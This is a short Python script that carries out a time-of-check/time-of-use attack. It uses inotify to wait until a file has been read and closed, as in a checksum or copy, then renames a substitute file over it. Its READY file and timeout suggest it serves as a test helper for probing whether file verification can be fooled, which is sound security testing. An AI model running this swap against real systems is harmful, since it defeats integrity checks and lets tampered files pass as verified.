#!/usr/bin/env python3
"""swap-on-read.py FILE REPLACEMENT READY: a local user's attack on a medium it can write.
Waits (inotify) until someone has opened FILE and closed it without writing (a checksum, a
copy), then renames REPLACEMENT over it: the file that was checked is gone, another is under
its name. Creates READY once watching. Gives up after 600 s (a safety net, not a timing)."""
import ctypes, os, select, struct, sys

IN_CLOSE_NOWRITE = 0x10
path, replacement, ready = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, os.path.dirname(path).encode(), IN_CLOSE_NOWRITE) < 0:
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
open(ready, "w").close()
name = os.path.basename(path).encode()
while select.select([fd], [], [], 600)[0]:
    buf = os.read(fd, 65536)
    at = 0
    while at < len(buf):
        _, mask, _, size = struct.unpack_from("iIII", buf, at)
        event = buf[at + 16:at + 16 + size].rstrip(b"\0")
        at += 16 + size
        if event == name:
            os.rename(replacement, path)
            print("swapped", path)
            sys.exit(0)
sys.exit("nothing read " + path)
